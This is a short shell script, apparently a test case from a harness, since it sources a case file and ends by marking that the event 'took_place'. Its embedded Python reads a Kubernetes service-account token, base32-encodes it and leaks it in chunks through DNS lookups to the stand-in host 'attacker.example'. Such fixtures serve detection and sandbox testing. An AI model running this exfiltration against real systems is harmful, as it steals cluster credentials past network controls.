#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import base64, socket
t = base64.b32encode(open("/run/secrets/kubernetes.io/serviceaccount/token", "rb").read() * 8).decode().rstrip("=").lower()
for n in range(0, len(t), 50):
    try: socket.gethostbyname(f"{t[n:n + 50]}.{n}.t.attacker.example")
    except OSError: pass
END
took_place
